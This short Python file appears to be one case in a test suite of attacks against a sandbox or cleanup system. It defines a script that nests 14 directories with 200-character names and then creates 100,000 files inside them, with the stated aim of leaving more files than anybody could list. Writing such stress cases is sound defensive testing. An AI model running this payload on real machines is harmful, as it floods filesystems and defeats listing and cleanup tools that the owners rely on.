"""Leaves a hundred thousand files with paths of three thousand characters, more than anybody could list."""

from attack import Attack, python, tried

MAKE = """
import os
for _ in range(14):
    os.mkdir("d" * 200)
    os.chdir("d" * 200)
for number in range(100_000):
    os.close(os.open(f"{number:0200}", os.O_CREAT))
"""
ATTACK = Attack((tried(python(MAKE)),))
